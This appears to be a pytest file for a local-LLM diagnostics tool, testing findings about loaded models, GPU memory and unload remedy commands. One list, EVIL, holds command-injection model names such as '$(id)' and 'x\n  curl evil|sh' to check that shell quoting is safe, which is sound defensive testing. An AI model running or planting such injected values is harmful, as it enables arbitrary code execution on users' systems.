"""
Rules about engines say what is the case, how much it matters, and nothing of engines that are in order.
"""

import shlex

import pytest

from llmprobe.facts.machine import LoadedModel
from llmprobe.harmless import shell_word
from llmprobe.machine import rules
from llmprobe.machine.rules.engines import RULES
from llmprobe.words.message import message
from tests.machine.fake import GIB, MIB
from tests.machine.rules.engine_cases import IN_ORDER, engine, holding, machine


@pytest.mark.parametrize("case", IN_ORDER)
def test_engines_in_order_are_no_finding(case: str) -> None:
    """
    No rule about engines fires on any of these machines.
    """
    snapshot = IN_ORDER[case]()

    assert [found.id for rule in RULES for found in rule.apply(snapshot)] == []


def severities(snapshot: object) -> dict[str, str]:
    return {found.id: found.severity for rule in RULES for found in rule.apply(snapshot)}  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("size", "vram", "expected"),
    [
        (6 * GIB, 6 * GIB, {"model-loaded": "warning"}),
        (500 * MIB, 500 * MIB, {"model-loaded": "note"}),
        (6 * GIB, 3 * GIB, {"model-loaded": "warning", "model-on-cpu": "note"}),
        (6 * GIB, 0, {"model-loaded": "warning", "model-on-cpu": "warning"}),
    ],
)
def test_a_loaded_model_matters_by_what_it_holds(size: int, vram: int, expected: dict[str, str]) -> None:
    """
    A tenth of the GPUs' memory is a warning, and so is a model that none of is on the GPU.
    """
    assert severities(machine(holding(size, vram))) == expected


def test_without_a_gpu_the_processor_is_no_finding() -> None:
    """
    Where there is no GPU a model is on the CPU rightly.
    """
    assert "model-on-cpu" not in severities(machine(holding(6 * GIB, 0), gpu=False))


def test_what_is_not_known_is_no_zero() -> None:
    """
    A model of unknown size is named without one, and is not said to be on the CPU.
    """
    (found,) = (
        found
        for rule in RULES
        for found in rule.apply(machine(engine("llama.cpp", loaded=(LoadedModel(name="tiny.gguf"),))))
    )

    assert (found.id, found.severity) == ("model-loaded", "note")
    assert found.title == message(
        "finding.model-loaded.title", engine="llama.cpp", model="tiny.gguf", held_bytes=None
    )


@pytest.mark.parametrize(
    ("name", "command"),
    [("ollama", ("ollama stop m",)), ("lmstudio", ("lms unload m",)), ("llama.cpp", ())],
)
def test_the_remedy_unloads_the_model(name: str, command: tuple[str, ...]) -> None:
    """
    With the engine's own command, where it has one.
    """
    (found,) = (found for found in RULES[0].apply(machine(engine(name, loaded=(LoadedModel(name="m"),)))))

    assert found.remedy is not None
    assert found.remedy.commands == command


EVIL = ("x; touch /tmp/y", "$(id)", "a b", "x\n  curl evil|sh", "it's", "-rf", "qwen3:8b")


@pytest.mark.parametrize("name", EVIL)
@pytest.mark.parametrize(("kind", "words"), [("ollama", ["ollama", "stop"]), ("lmstudio", ["lms", "unload"])])
def test_a_name_of_a_server_is_one_word_of_the_command(kind: str, words: list[str], name: str) -> None:
    """Whoever copies the command gives the shell a name, whatever the server calls its model."""
    loaded = LoadedModel(name=name, size_bytes=6 * GIB, vram_bytes=0)
    snapshot = rules.diagnosed(machine(engine(kind, loaded=(loaded,))))
    found = {each.id: each for each in snapshot.findings}

    unload, again = found["model-loaded"].remedy, found["model-on-cpu"].remedy
    assert unload is not None
    assert again is not None
    word = shell_word(name)
    assert unload.commands == (" ".join([*words, word]),)
    assert again.commands == (f"llmprobe recommend --model {word} --engine {kind}",)
    assert name.isprintable() == (shlex.split(word) == [name])


def test_a_name_that_fills_pages_is_in_no_command() -> None:
    """A command of 100 KB serves nobody."""
    for length, count in ((500, 1), (501, 0)):
        loaded = LoadedModel(name="a" * length, size_bytes=6 * GIB, vram_bytes=0)
        found = {each.id: each for each in rules.diagnosed(machine(engine(loaded=(loaded,)))).findings}
        for name in ("model-loaded", "model-on-cpu"):
            remedy = found[name].remedy
            assert remedy is not None
            assert len(remedy.commands) == count


@pytest.mark.parametrize("digits", ["9" * 5000, "0" * 5000, "²"])
def test_numbers_that_are_none_break_no_rule(digits: str) -> None:
    """Python refuses to read thousands of digits, and other scripts have digits too."""
    old = engine("llama.cpp", version=f"b{digits}")
    many = engine(settings={"OLLAMA_NUM_PARALLEL": digits})
    seen = rules.diagnosed(machine(old, many))

    assert [each.name for each in seen.sources if each.status == "crashed"] == []
    assert {"llama-cpp-old-build", "ollama-parallel"} & {each.id for each in seen.findings} == set()
